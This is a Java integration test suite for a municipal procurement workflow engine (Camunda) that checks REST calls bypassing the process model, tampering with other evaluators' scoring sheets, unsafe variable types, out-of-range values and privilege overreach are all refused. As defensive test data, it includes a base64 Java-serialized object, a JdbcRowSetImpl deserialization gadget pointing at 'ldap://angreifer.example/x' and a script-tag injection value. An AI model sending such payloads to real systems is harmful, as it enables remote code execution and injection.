package de.leverkusen.vergabe.sicherheit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import de.leverkusen.vergabe.konfiguration.Demoausschreibung;
import de.leverkusen.vergabe.konfiguration.Demooeffnung;
import de.leverkusen.vergabe.lizenz.Lizenzbestellung;
import de.leverkusen.vergabe.lizenz.LizenzbestellungService;
import de.leverkusen.vergabe.prozess.Ausschreibungslauf;
import de.leverkusen.vergabe.rest.EngineRest;
import de.leverkusen.vergabe.wertung.BewertungService;
import de.leverkusen.vergabe.wertung.Bewertungsbogen;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.camunda.bpm.engine.BadUserRequestException;
import org.camunda.bpm.engine.ExternalTaskService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.impl.cfg.ProcessEngineConfigurationImpl;
import org.camunda.bpm.engine.runtime.ActivityInstance;
import org.camunda.bpm.engine.runtime.Job;
import org.camunda.bpm.engine.runtime.ProcessInstance;
import org.camunda.bpm.engine.task.Task;
import org.camunda.bpm.engine.variable.Variables;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;

/**
 * The procedure's law against its own users (issue 15, items 4 to 6): every attack goes through the REST API as the
 * user concerned, and each test checks the refusal and that nothing changed: the procedure's rows in the domain's tables
 * (procedure, offers, evaluators, sheets and points, running record, licence order, letters, documents), its process
 * instances with their activities, variables, jobs, tasks and external tasks, and the number of procedures and instances.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("test")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class IntegritaetRestTest {

    private static final String VOR_OEFFNUNG = "VG-INT-VOR-OEFFNUNG";
    private static final String WERTUNG = "VG-INT-WERTUNG";
    private static final String BEENDET = "VG-INT-BEENDET";
    private static final String BESTELLUNG = "VG-INT-IVL";
    private static final String BESTELLNUMMER = "IVL-" + BESTELLUNG;
    private static final String JAVA_SERIALISIERT = "rO0ABXNyABNqYXZhLnV0aWwuQXJyYXlMaXN0eIHSHZnHYZ0DAAFJAARzaXpleHAAAAAAdwQAAAAAeA==";

    @LocalServerPort
    int port;
    @Autowired
    ProcessEngine engine;
    @Autowired
    RuntimeService runtime;
    @Autowired
    TaskService tasks;
    @Autowired
    ManagementService management;
    @Autowired
    ExternalTaskService externalTasks;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    BewertungService bewertung;
    @Autowired
    LizenzbestellungService lizenzen;

    ProcessInstance vorOeffnung;
    ProcessInstance wertung;
    String beendet;
    String beendetDefinition;
    String bestellung;
    Task bogenBewerter1;
    Task bogenBewerter2;
    Task bogenBewerter3;

    @BeforeAll
    void verfahrenVorbereiten() {
        vorOeffnung = runtime.startProcessInstanceByKey("dms-vergabe", VOR_OEFFNUNG, Demoausschreibung.startformular());
        ProcessInstance ende = runtime.startProcessInstanceByKey("dms-vergabe", BEENDET, Demoausschreibung.startformular());
        beendet = ende.getId();
        beendetDefinition = ende.getProcessDefinitionId();
        runtime.deleteProcessInstance(beendet, "für den Neustartversuch beendet");
        wertung = runtime.startProcessInstanceByKey("dms-vergabe", WERTUNG, Demoausschreibung.startformular());
        job(wertung.getId(), "TimerEvent_AngebotsfristAbgelaufen");
        erledigeAlle("UserTask_InteressenkonfliktErklaeren", Map.of("interessenkonflikt", "NEIN"));
        Task oeffnen = eine("UserTask_AngeboteOeffnen");
        tasks.claim(oeffnen.getId(), "vergabe1");
        tasks.complete(oeffnen.getId(), Demooeffnung.oeffnungsformular());
        Task gegenzeichnen = eine("UserTask_OeffnungGegenzeichnen");
        tasks.claim(gegenzeichnen.getId(), "vergabe2");
        tasks.complete(gegenzeichnen.getId(), Map.of("gegenzeichnungVermerk", "Öffnung gemeinsam durchgeführt."));
        erledigeAlle("UserTask_FormalePruefung", Map.of("formalePruefung", "VOLLSTAENDIG", "formalePruefungVermerk", "vollständig vorgelegt"));
        erledigeAlle("UserTask_AusschlussgruendePruefen", Map.of("ausschlussgrund", "KEINER", "ausschlussgruendeVermerk", "keine Ausschlussgründe"));
        erledigeAlle("UserTask_EignungPruefen", Map.of("befaehigungBerufsausuebung", "ERFUELLT",
                "wirtschaftlicheLeistungsfaehigkeit", "ERFUELLT", "technischeLeistungsfaehigkeit", "ERFUELLT"));
        for (int i = 0; i < 3; i++) {
            job(wertung.getId(), "TimerEvent_PraesentationsterminErreicht");
        }
        erledigeAlle("UserTask_PraesentationProtokollieren", Map.of("anwesendeBewerter", "bewerter1, bewerter2, bewerter3",
                "praesentationProtokoll", "Präsentation mit Live-Demo durchgeführt."));
        bogenBewerter1 = bogen("bewerter1");
        bogenBewerter2 = bogen("bewerter2");
        bogenBewerter3 = bogen("bewerter3");
        bestellung = new Ausschreibungslauf(engine).bisZurLizenzpruefung(BESTELLUNG);
    }

    // --- item 4: no way around the model ----------------------------------------------------------------------

    @Test
    @Order(1)
    void startAnEinerSpaeterenAktivitaetIstNiemandemAusserDemBetriebErlaubt() {
        Map<String, Object> start = new HashMap<>(EngineRest.variablen(Demoausschreibung.startformular()));
        start.put("businessKey", "VG-INT-ABKUERZUNG");
        start.put("startInstructions", List.of(Map.of("type", "startBeforeActivity", "activityId", "UserTask_ZuschlagErteilen")));
        for (String benutzer : List.of("vergabe1", "projektleitung", "bewerter1", "ratsbuero", "ivl", "ivl-worker")) {
            verweigert(benutzer, "POST", "/process-definition/key/dms-vergabe/start", start, 403, VOR_OEFFNUNG);
        }
        Map<String, Object> ohneListener = new HashMap<>(start);
        ohneListener.put("skipCustomListeners", true);
        ohneListener.put("skipIoMappings", true);
        JsonNode antwort = verweigert("vergabe1", "POST", "/process-definition/key/dms-vergabe/start", ohneListener, 403, VOR_OEFFNUNG);
        assertThat(antwort.path("message").asText()).contains("vergabe1 darf den Ablauf eines Verfahrens nicht am Modell vorbei ändern",
                "Start an einer späteren Aktivität", "camunda-admin");
        assertThat(runtime.createProcessInstanceQuery().processInstanceBusinessKey("VG-INT-ABKUERZUNG").count()).isZero();
    }

    @Test
    @Order(2)
    void neustartModifikationUndMigrationSindDemBetriebVorbehalten() {
        Map<String, Object> neustart = Map.of("processInstanceIds", List.of(beendet),
                "instructions", List.of(Map.of("type", "startBeforeActivity", "activityId", "UserTask_ZuschlagErteilen")));
        Map<String, Object> modifikation = Map.of("skipCustomListeners", true, "instructions", List.of(
                Map.of("type", "startBeforeActivity", "activityId", "UserTask_ZuschlagErteilen")));
        Map<String, Object> sammelModifikation = Map.of("processDefinitionId", wertung.getProcessDefinitionId(),
                "processInstanceIds", List.of(wertung.getId()),
                "instructions", List.of(Map.of("type", "startBeforeActivity", "activityId", "UserTask_ZuschlagErteilen")));
        // a valid plan (the same version onto itself), as operations would generate it
        EngineRest.Antwort plan = new EngineRest(port, "admin", "demo").post("/migration/generate", Map.of(
                "sourceProcessDefinitionId", wertung.getProcessDefinitionId(), "targetProcessDefinitionId", wertung.getProcessDefinitionId()));
        assertThat(plan.status()).as(plan.body().toString()).isEqualTo(200);
        Map<String, Object> migration = Map.of("processInstanceIds", List.of(wertung.getId()), "migrationPlan", plan.body());
        for (String benutzer : List.of("vergabe1", "projektleitung", "bewerter1", "ratsbuero", "ivl", "ivl-worker")) {
            verweigert(benutzer, "POST", "/process-definition/" + beendetDefinition + "/restart", neustart, 403, BEENDET);
            verweigert(benutzer, "POST", "/process-definition/" + beendetDefinition + "/restart-async", neustart, 403, BEENDET);
            verweigert(benutzer, "POST", "/process-instance/" + wertung.getId() + "/modification", modifikation, 403, WERTUNG);
            verweigert(benutzer, "POST", "/process-instance/" + wertung.getId() + "/modification-async", modifikation, 403, WERTUNG);
            verweigert(benutzer, "POST", "/modification/execute", sammelModifikation, 403, WERTUNG);
            verweigert(benutzer, "POST", "/modification/executeAsync", sammelModifikation, 403, WERTUNG);
            verweigert(benutzer, "POST", "/migration/execute", migration, 403, WERTUNG);
            verweigert(benutzer, "POST", "/migration/executeAsync", migration, 403, WERTUNG);
        }
        // a job by hand (the timer of the offer deadline before its time): refused, and its retries are not used up
        Job frist = management.createJobQuery().processInstanceId(vorOeffnung.getId()).activityId("TimerEvent_AngebotsfristAbgelaufen").singleResult();
        for (String benutzer : List.of("vergabe1", "projektleitung", "bewerter1", "ratsbuero", "ivl", "ivl-worker")) {
            for (int versuch = 0; versuch < 4; versuch++) {
                verweigert(benutzer, "POST", "/job/" + frist.getId() + "/execute", null, 403, VOR_OEFFNUNG);
            }
        }
        assertThat(management.createJobQuery().jobId(frist.getId()).singleResult().getRetries()).isEqualTo(3);
        JsonNode antwort = verweigert("vergabe1", "POST", "/process-definition/" + beendetDefinition + "/restart", neustart, 403, BEENDET);
        assertThat(antwort.path("message").asText()).contains("Neustart einer beendeten Prozessinstanz", "camunda-admin");
        assertThat(runtime.createProcessInstanceQuery().processInstanceBusinessKey(BEENDET).count()).isZero();
        assertThat(management.createBatchQuery().count()).isZero();
    }

    @Test
    @Order(3)
    void derBetriebDarfEingreifenUndStehtDannImVergabevermerk() {
        int vorher = vermerke(VOR_OEFFNUNG).size();
        OffsetDateTime beginn = OffsetDateTime.now().minusSeconds(5);
        EngineRest.Antwort antwort = new EngineRest(port, "admin", "demo").post("/process-instance/" + vorOeffnung.getId() + "/modification",
                Map.of("annotation", "Zeitgeber nach Störung neu angelegt", "instructions",
                        List.of(Map.of("type", "startBeforeActivity", "activityId", "TimerEvent_AngebotsfristAbgelaufen"))));
        assertThat(antwort.status()).as(antwort.body().toString()).isEqualTo(204);
        List<Map<String, Object>> vermerke = vermerke(VOR_OEFFNUNG);
        assertThat(vermerke).hasSize(vorher + 1);
        Map<String, Object> eingriff = vermerke.get(vermerke.size() - 1);
        assertThat(eingriff.get("BENUTZER")).isEqualTo("admin");
        assertThat(eingriff.get("STUFE")).isEqualTo("Betrieb");
        assertThat((String) eingriff.get("TEXT")).contains("Eingriff des Betriebs", "Modifikation der Prozessinstanz",
                "TimerEvent_AngebotsfristAbgelaufen", "Zeitgeber nach Störung neu angelegt");
        assertThat(((OffsetDateTime) eingriff.get("ZEITPUNKT")).toInstant()).isAfter(beginn.toInstant());
        // the same for a batch: recorded when the admin creates it, carried out by the job executor later
        antwort = new EngineRest(port, "admin", "demo").post("/process-definition/" + beendetDefinition + "/restart-async",
                Map.of("processInstanceIds", List.of(beendet), "skipCustomListeners", true,
                        "instructions", List.of(Map.of("type", "startBeforeActivity", "activityId", "TimerEvent_AngebotsfristAbgelaufen"))));
        assertThat(antwort.status()).as(antwort.body().toString()).isEqualTo(200);
        assertThat(vermerke(BEENDET)).last().satisfies(v -> {
            assertThat(v.get("BENUTZER")).isEqualTo("admin");
            assertThat((String) v.get("TEXT")).contains("Neustart einer beendeten Prozessinstanz");
        });
        management.deleteBatch(antwort.body().path("id").asText(), true);
    }

    // --- item 4: a scoring sheet only by its evaluator --------------------------------------------------------

    @Test
    @Order(4)
    void einBewertungsbogenNurDurchSeinenBewerterWelcheKennungenAuchGesendetWerden() {
        Map<String, Object> bogen = EngineRest.variablen(Ausschreibungslauf.bewertungsbogenformular());
        for (String pfad : List.of("/complete", "/submit-form")) {
            verweigert("bewerter2", "POST", "/task/" + bogenBewerter1.getId() + pfad, bogen, 403, WERTUNG);
            verweigert("vergabe1", "POST", "/task/" + bogenBewerter1.getId() + pfad, bogen, 403, WERTUNG);
        }
        verweigert("bewerter2", "POST", "/task/" + bogenBewerter1.getId() + "/claim", Map.of("userId", "bewerter2"), 403, WERTUNG, 404);
        verweigert("bewerter2", "POST", "/task/" + bogenBewerter1.getId() + "/assignee", Map.of("userId", "bewerter2"), 403, WERTUNG, 404);
        verweigert("bewerter2", "PUT", "/task/" + bogenBewerter1.getId() + "/variables/punkteB1", Map.of("value", 1, "type", "Long"), 403, WERTUNG, 404);
        // the own task, but another evaluator's sheet named in the form: refused, nothing stored anywhere (the field is
        // not in the sheet's form, which Eingabeschutz refuses first; BewertungsbogenSpeichern would refuse it as well)
        Map<String, Object> gefaelscht = new HashMap<>(Ausschreibungslauf.bewertungsbogenformular());
        gefaelscht.put("bewertungsbogenId", bogenId(bogenBewerter2));
        JsonNode antwort = verweigert("bewerter1", "POST", "/task/" + bogenBewerter1.getId() + "/submit-form",
                EngineRest.variablen(gefaelscht), 400, WERTUNG);
        assertThat(antwort.path("message").asText()).contains("Feld 'bewertungsbogenId'");
        // ... and the assignee handed the task to a colleague: the colleague cannot submit the sheet either
        tasks.setAssignee(bogenBewerter3.getId(), "bewerter2");
        antwort = verweigert("bewerter2", "POST", "/task/" + bogenBewerter3.getId() + "/submit-form", bogen, 400, WERTUNG);
        assertThat(antwort.path("message").asText()).contains("Feld 'bewertungsbogenId'", "bewerter3 zugeordnet", "bewerter2 kann ihn nicht abgeben");
        tasks.setAssignee(bogenBewerter3.getId(), "bewerter3");
        // even where the instance's variables were changed (here by operations, the only one who may) to name another
        // evaluator's sheet, offer and procedure: the sheet stored is the one the instance was bound to when the engine
        // created it (table instanzbindung), and the other sheet stays untouched
        EngineRest admin = new EngineRest(port, "admin", "demo");
        String instanz3 = "/process-instance/" + bogenBewerter3.getProcessInstanceId() + "/variables/";
        long eigenerBogen = bogenId(bogenBewerter3);
        long fremderBogen = bogenId(bogenBewerter2);
        Object fremdeVergabe = runtime.getVariable(vorOeffnung.getId(), "vergabeId");
        assertThat(admin.put(instanz3 + "bewertungsbogenId", Map.of("value", fremderBogen, "type", "Long")).status()).isEqualTo(204);
        assertThat(admin.put(instanz3 + "vergabeId", Map.of("value", fremdeVergabe, "type", "Long")).status()).isEqualTo(204);
        assertThat(admin.put(instanz3 + "angebotId", Map.of("value", bewertung.bogen(fremderBogen).getAngebotId() + 1, "type", "Long")).status())
                .isEqualTo(204);
        EngineRest.Antwort gebunden = new EngineRest(port, "bewerter3", "demo").post("/task/" + bogenBewerter3.getId() + "/submit-form", bogen);
        assertThat(gebunden.status()).as(gebunden.body().toString()).isEqualTo(204);
        assertThat(bewertung.bogen(eigenerBogen).getStatus()).isEqualTo(Bewertungsbogen.Status.ABGEGEBEN);
        assertThat(bewertung.bogen(eigenerBogen).getBewerter()).isEqualTo("bewerter3");
        assertThat(bewertung.bogen(fremderBogen).getStatus()).isEqualTo(Bewertungsbogen.Status.OFFEN);
        // the honest submission goes through (what Tasklist sends)
        EngineRest.Antwort ehrlich = new EngineRest(port, "bewerter1", "demo").post("/task/" + bogenBewerter1.getId() + "/submit-form", bogen);
        assertThat(ehrlich.status()).as(ehrlich.body().toString()).isEqualTo(204);
        assertThat(bewertung.bogen(bogenId(bogenBewerter1)).getStatus()).isEqualTo(Bewertungsbogen.Status.ABGEGEBEN);
        assertThat(bewertung.bogen(fremderBogen).getStatus()).isEqualTo(Bewertungsbogen.Status.OFFEN);
    }

    // --- item 6: safe variable types ---------------------------------------------------------------------------

    @Test
    @Order(5)
    void serialisierteObjekteWerdenMit400Abgewiesen() {
        String aufgabe = "/task/" + bogenBewerter2.getId();
        Map<String, Object> javaObjekt = Map.of("type", "Object", "value", JAVA_SERIALISIERT, "valueInfo", Map.of(
                "objectTypeName", "java.util.ArrayList", "serializationDataFormat", "application/x-java-serialized-object"));
        Map<String, Object> rowSet = Map.of("type", "Object", "value", "{\"dataSourceName\":\"ldap://angreifer.example/x\",\"autoCommit\":true}",
                "valueInfo", Map.of("objectTypeName", "com.sun.rowset.JdbcRowSetImpl", "serializationDataFormat", "application/json"));
        Map<String, Object> liste = Map.of("type", "Object", "value", "[\"a\"]",
                "valueInfo", Map.of("objectTypeName", "java.util.ArrayList", "serializationDataFormat", "application/json"));
        for (Map<String, Object> wert : List.of(javaObjekt, rowSet, liste)) {
            for (String pfad : List.of("/submit-form", "/complete")) {
                JsonNode antwort = verweigert("bewerter2", "POST", aufgabe + pfad, mitVariable(Ausschreibungslauf.bewertungsbogenformular(), "punkteB1", wert), 400, WERTUNG);
                assertThat(antwort.path("message").asText()).contains("Feld 'punkteB1'", "Variablentyp 'Object'");
                verweigert("bewerter2", "POST", aufgabe + pfad, mitVariable(Ausschreibungslauf.bewertungsbogenformular(), "nebenbei", wert), 400, WERTUNG);
            }
            verweigert("admin", "PUT", "/process-instance/" + wertung.getId() + "/variables/nebenbei", wert, 400, WERTUNG);
            verweigert("admin", "POST", "/process-instance/" + wertung.getId() + "/variables", Map.of("modifications", Map.of("nebenbei", wert)), 400, WERTUNG);
            verweigert("vergabe1", "POST", "/process-definition/key/dms-vergabe/submit-form",
                    mitVariable(Demoausschreibung.startformular(), "titel", wert), 400, VOR_OEFFNUNG);
        }
        // the engine refuses them on every other path too (here: its Java API), serialized or as a Java object
        Map<String, Object> zustand = zustand(WERTUNG);
        assertThatThrownBy(() -> runtime.setVariable(wertung.getId(), "nebenbei", Variables.serializedObjectValue("[]")
                .objectTypeName("java.util.ArrayList").serializationDataFormat("application/json").create()))
                .isInstanceOf(BadUserRequestException.class).hasMessageContaining("Variablentyp 'Object'");
        assertThatThrownBy(() -> runtime.setVariable(wertung.getId(), "nebenbei", new ArrayList<>(List.of("a"))))
                .isInstanceOf(BadUserRequestException.class).hasMessageContaining("java.util.ArrayList");
        assertThat(unterschiede(zustand, zustand(WERTUNG))).isEmpty();
        ProcessEngineConfigurationImpl konfiguration = (ProcessEngineConfigurationImpl) engine.getProcessEngineConfiguration();
        assertThat(konfiguration.isJavaSerializationFormatEnabled()).isFalse();
        assertThat(konfiguration.isDeserializationTypeValidationEnabled()).isTrue();
        for (String klasse : List.of("java.util.ArrayList", "java.util.TreeMap", "java.lang.String", "com.sun.rowset.JdbcRowSetImpl")) {
            assertThat(konfiguration.getDeserializationTypeValidator().validate(klasse)).as(klasse).isFalse();
        }
        // the one object variable of the procedure: the engine's result of the suitability decision
        assertThat(konfiguration.getDeserializationTypeValidator().validate("java.util.HashMap")).isTrue();
        assertThatThrownBy(() -> runtime.setVariable(wertung.getId(), "nebenbei", Variables.serializedObjectValue("{}")
                .objectTypeName("java.util.HashMap").serializationDataFormat("application/json").create()))
                .as("serialized, even of an allowed class").isInstanceOf(BadUserRequestException.class);
        assertThat(unterschiede(zustand, zustand(WERTUNG))).isEmpty();
    }

    @Test
    @Order(6)
    void zahlenUeberDenWertebereichUndUnplausibleDatenWerdenMitFeldUndRegelAbgewiesen() {
        String aufgabe = "/task/" + bogenBewerter2.getId() + "/submit-form";
        Map<String, Object> bogen = Ausschreibungslauf.bewertungsbogenformular();
        JsonNode antwort = verweigert("bewerter2", "POST", aufgabe, mitVariable(bogen, "punkteB1",
                Map.of("value", new java.math.BigInteger("99999999999999999999"), "type", "Long")), 400, WERTUNG);
        assertThat(antwort.path("message").asText()).contains("Feld 'punkteB1'", "außerhalb des Wertebereichs von Long");
        antwort = verweigert("bewerter2", "POST", aufgabe, mitVariable(bogen, "punkteB1",
                Map.of("value", new java.math.BigInteger("99999999999999999999"))), 400, WERTUNG);
        assertThat(antwort.path("message").asText()).contains("Feld 'punkteB1'", "außerhalb des Wertebereichs von Long");
        antwort = verweigert("bewerter2", "POST", aufgabe, mitVariable(bogen, "punkteB1", Map.of("value", 3_000_000_000L, "type", "Integer")), 400, WERTUNG);
        assertThat(antwort.path("message").asText()).contains("Feld 'punkteB1'", "Wertebereichs von Integer");
        antwort = verweigert("bewerter2", "POST", aufgabe, mitVariable(bogen, "punkteB1", Map.of("value", new java.math.BigDecimal("1e400"))), 400, WERTUNG);
        assertThat(antwort.path("message").asText()).contains("Feld 'punkteB1'", "Wertebereichs von Double");

        // the licence order's review: quantity and delivery date
        Task pruefung = tasks.createTaskQuery().processInstanceId(bestellung).taskDefinitionKey("UserTask_LizenzbestellungPruefen").singleResult();
        tasks.claim(pruefung.getId(), "vergabe1");
        String lizenz = "/task/" + pruefung.getId() + "/submit-form";
        Map<String, Object> formular = Ausschreibungslauf.lizenzpruefungsformular();
        antwort = verweigert("vergabe1", "POST", lizenz, mitVariable(formular, "lizenzanzahl",
                Map.of("value", new java.math.BigInteger("99999999999999999999"), "type", "Long")), 400, BESTELLUNG);
        assertThat(antwort.path("message").asText()).contains("Feld 'lizenzanzahl'", "außerhalb des Wertebereichs von Long");
        antwort = verweigert("vergabe1", "POST", lizenz, mitVariable(formular, "lizenzanzahl", Map.of("value", 1e300, "type", "Double")), 400, BESTELLUNG);
        assertThat(antwort.path("message").asText()).contains("Feld 'lizenzanzahl'", "Zahl außerhalb des zulässigen Bereichs");
        for (String datum : List.of("1999-12-31", "2099-01-01", java.time.LocalDate.now().plusYears(10).plusDays(2).toString())) {
            antwort = verweigert("vergabe1", "POST", lizenz, mitVariable(formular, "liefertermin", Map.of("value", datum, "type", "String")), 400, BESTELLUNG);
            assertThat(antwort.path("message").asText()).contains("Feld 'liefertermin'", "außerhalb des zulässigen Zeitraums", datum);
        }
        // the start form: nothing is created
        antwort = verweigert("vergabe1", "POST", "/process-definition/key/dms-vergabe/submit-form",
                mitVariable(Demoausschreibung.startformular(), "praesentationVon", Map.of("value", "1999-12-01", "type", "String")), 400, VOR_OEFFNUNG);
        assertThat(antwort.path("message").asText()).contains("Feld 'praesentationVon'", "außerhalb des zulässigen Zeitraums");
        antwort = verweigert("vergabe1", "POST", "/process-definition/key/dms-vergabe/submit-form",
                mitVariable(Demoausschreibung.startformular(), "geschaetzterWert", Map.of("value", new java.math.BigInteger("99999999999999999999"))), 400, VOR_OEFFNUNG);
        assertThat(antwort.path("message").asText()).contains("Feld 'geschaetzterWert'", "Wertebereichs von Long");
        // the honest review goes through, and the worker (here: the engine) sends the order
        EngineRest.Antwort ehrlich = new EngineRest(port, "vergabe1", "demo").formularAbsenden(pruefung.getId(), formular);
        assertThat(ehrlich.status()).as(ehrlich.body().toString()).isEqualTo(204);
        // the worker's user fetches the order with its two variables only, and reports it sent without writing any
        Map<String, Object> abholen = new HashMap<>(Map.of("workerId", "ivl-worker", "maxTasks", 1));
        abholen.put("topics", List.of(Map.of("topicName", "ivl-lizenzbestellung", "lockDuration", 60_000)));
        antwort = verweigert("ivl-worker", "POST", "/external-task/fetchAndLock", abholen, 403, BESTELLUNG);
        assertThat(antwort.path("message").asText()).contains("alle Variablen");
        abholen.put("topics", List.of(Map.of("topicName", "ivl-lizenzbestellung", "lockDuration", 60_000,
                "variables", List.of("bestellnummer", "lizenzbestellung", "bestbieter"))));
        verweigert("ivl-worker", "POST", "/external-task/fetchAndLock", abholen, 403, BESTELLUNG);
        abholen.put("topics", List.of(Map.of("topicName", "ivl-lizenzbestellung", "lockDuration", 60_000,
                "variables", List.of("bestellnummer", "lizenzbestellung"))));
        EngineRest worker = new EngineRest(port, "ivl-worker", "demo");
        EngineRest.Antwort abgeholt = worker.post("/external-task/fetchAndLock", abholen);
        assertThat(abgeholt.status()).as(abgeholt.body().toString()).isEqualTo(200);
        assertThat(abgeholt.body()).hasSize(1);
        assertThat(abgeholt.body().get(0).path("variables").size()).isEqualTo(2);
        String aufgabeId = abgeholt.body().get(0).path("id").asText();
        verweigert("ivl-worker", "POST", "/external-task/" + aufgabeId + "/complete", Map.of("workerId", "ivl-worker",
                "variables", Map.of("bestbieter", Map.of("value", "Niemand GmbH", "type", "String"))), 403, BESTELLUNG);
        verweigert("ivl-worker", "POST", "/external-task/" + aufgabeId + "/bpmnError", Map.of("workerId", "ivl-worker",
                "errorCode", "IVL_BESTELLUNG_ABGELEHNT", "variables", Map.of("lizenzanzahl", Map.of("value", 1, "type", "Long"))), 403, BESTELLUNG);
        EngineRest.Antwort gemeldet = worker.post("/external-task/" + aufgabeId + "/complete", Map.of("workerId", "ivl-worker"));
        assertThat(gemeldet.status()).as(gemeldet.body().toString()).isEqualTo(204);
        assertThat(lizenzen.bestellung(BESTELLNUMMER).getStatus()).isEqualTo(Lizenzbestellung.Status.UEBERMITTELT);
    }

    // --- item 5: least privilege for ivl ----------------------------------------------------------------------

    @Test
    @Order(7)
    void ivlLiestUndBestaetigtNurSeineBestellung() {
        String pi = "/process-instance/" + bestellung;
        Job job = management.createJobQuery().processInstanceId(bestellung).list().get(0);
        for (String benutzer : List.of("ivl", "ivl-worker")) {
            verweigert(benutzer, "GET", pi + "/variables", null, 403, BESTELLUNG);
            verweigert(benutzer, "GET", "/process-instance/" + wertung.getId() + "/variables", null, 403, WERTUNG);
            verweigert(benutzer, "PUT", pi + "/variables/ivlReferenz", Map.of("value", "X", "type", "String"), 403, BESTELLUNG);
            verweigert(benutzer, "POST", pi + "/variables", Map.of("modifications", Map.of("bestbieter", Map.of("value", "X", "type", "String"))), 403, BESTELLUNG);
            verweigert(benutzer, "PUT", pi + "/suspended", Map.of("suspended", true), 403, BESTELLUNG);
            verweigert(benutzer, "PUT", "/job/" + job.getId() + "/retries", Map.of("retries", 0), 403, BESTELLUNG, 404);
            verweigert(benutzer, "PUT", "/job/" + job.getId() + "/duedate", Map.of("duedate", "2021-01-01T00:00:00.000+0100"), 403, BESTELLUNG, 404);
            verweigert(benutzer, "POST", "/job/" + job.getId() + "/execute", null, 403, BESTELLUNG, 404);
            verweigert(benutzer, "PUT", "/job/" + job.getId() + "/suspended", Map.of("suspended", true), 403, BESTELLUNG, 404);
            verweigert(benutzer, "POST", pi + "/modification", Map.of("instructions",
                    List.of(Map.of("type", "cancel", "activityId", "SubProcess_LizenzbestellungBeiIvl"))), 403, BESTELLUNG);
            // the engine's message call would need UPDATE on the instance: refused, ivl confirms through its own API
            verweigert(benutzer, "POST", "/message", Map.of("messageName", "IvlBestellungBestaetigt",
                    "correlationKeys", Map.of("bestellnummer", Map.of("value", BESTELLNUMMER, "type", "String")),
                    "processVariables", Map.of("bestbieter", Map.of("value", "Niemand GmbH", "type", "String"))), 403, BESTELLUNG, 400);
        }
        // ivl sees nothing of any procedure through the engine: no instance, no variable, no history, no task
        EngineRest ivl = new EngineRest(port, "ivl", "demo");
        for (String abfrage : List.of("/process-instance?businessKey=" + BESTELLUNG, "/variable-instance?processInstanceIdIn=" + bestellung,
                "/history/variable-instance?processInstanceId=" + bestellung, "/history/variable-instance?variableName=bieter",
                "/history/process-instance", "/task", "/job", "/external-task")) {
            EngineRest.Antwort antwort = ivl.get(abfrage);
            assertThat(antwort.status()).as(abfrage + " " + antwort.body()).isEqualTo(200);
            assertThat(antwort.body()).as(abfrage).isEmpty();
        }
        // its order: readable by ivl (and operations) only
        EngineRest ivlApi = new EngineRest(port, "", "ivl", "demo");
        EngineRest.Antwort auftrag = ivlApi.get("/api/ivl/bestellungen/" + BESTELLNUMMER);
        assertThat(auftrag.status()).as(auftrag.body().toString()).isEqualTo(200);
        assertThat(auftrag.body().path("bestellnummer").asText()).isEqualTo(BESTELLNUMMER);
        assertThat(auftrag.body().path("anzahlLizenzen").asInt()).isEqualTo(1900);
        for (String benutzer : List.of("vergabe1", "bewerter1", "projektleitung", "ratsbuero", "ivl-worker")) {
            verweigert(benutzer, "GET", "/api/ivl/bestellungen/" + BESTELLNUMMER, null, 403, BESTELLUNG);
            verweigert(benutzer, "POST", "/api/ivl/bestellungen/" + BESTELLNUMMER + "/bestaetigung", Map.of("ivlReferenz", "IVL-AUF-1"), 403, BESTELLUNG);
        }
        verweigert(null, "POST", "/api/ivl/bestellungen/" + BESTELLNUMMER + "/bestaetigung", Map.of("ivlReferenz", "IVL-AUF-1"), 401, BESTELLUNG);
        verweigert("ivl", "GET", "/api/ivl/bestellungen/IVL-" + WERTUNG, null, 404, WERTUNG);
        verweigert("ivl", "POST", "/api/ivl/bestellungen/IVL-" + WERTUNG + "/bestaetigung", Map.of("ivlReferenz", "IVL-AUF-1"), 404, WERTUNG);
        JsonNode ohne = verweigert("ivl", "POST", "/api/ivl/bestellungen/" + BESTELLNUMMER + "/bestaetigung", Map.of(), 400, BESTELLUNG);
        assertThat(ohne.path("fehler").asText()).contains("Feld 'ivlReferenz'");
        verweigert("ivl", "POST", "/api/ivl/bestellungen/" + BESTELLNUMMER + "/bestaetigung", Map.of("ivlReferenz", "<script>x</script>"), 400, BESTELLUNG);
        // the confirmation
        EngineRest.Antwort bestaetigt = ivlApi.post("/api/ivl/bestellungen/" + BESTELLNUMMER + "/bestaetigung", Map.of("ivlReferenz", "IVL-AUF-2022-0815"));
        assertThat(bestaetigt.status()).as(bestaetigt.body().toString()).isEqualTo(204);
        assertThat(lizenzen.bestellung(BESTELLNUMMER).getStatus()).isEqualTo(Lizenzbestellung.Status.BESTAETIGT);
        assertThat(lizenzen.bestellung(BESTELLNUMMER).getIvlReferenz()).isEqualTo("IVL-AUF-2022-0815");
        assertThat(tasks.createTaskQuery().processInstanceId(bestellung).taskDefinitionKey("UserTask_LizenzbereitstellungErfassen").count()).isEqualTo(1);
        // twice: nothing awaits it any more
        verweigert("ivl", "POST", "/api/ivl/bestellungen/" + BESTELLNUMMER + "/bestaetigung", Map.of("ivlReferenz", "IVL-AUF-2022-0816"), 409, BESTELLUNG);
    }

    /**
     * Issue 16 item 4: a review application served before the § 134 information, recorded through the procedure API,
     * bars the award after the standstill, whoever tries it through the REST API (and the admin by moving the token
     * past the award task); nothing of the procedure changes, the chamber's task stays open.
     */
    @Test
    @Order(8)
